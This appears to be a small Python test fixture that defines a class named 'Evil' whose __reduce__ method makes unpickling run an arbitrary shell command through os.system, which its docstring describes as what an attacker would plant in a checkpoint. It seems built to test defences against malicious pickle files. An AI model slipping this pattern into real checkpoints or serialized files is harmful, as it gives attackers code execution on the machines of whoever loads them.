"""An object whose unpickling runs a command."""

from __future__ import annotations

import os
from typing import Any


class Evil:
    """What an attacker would put into a checkpoint."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> Any:
        return os.system, (self.command,)
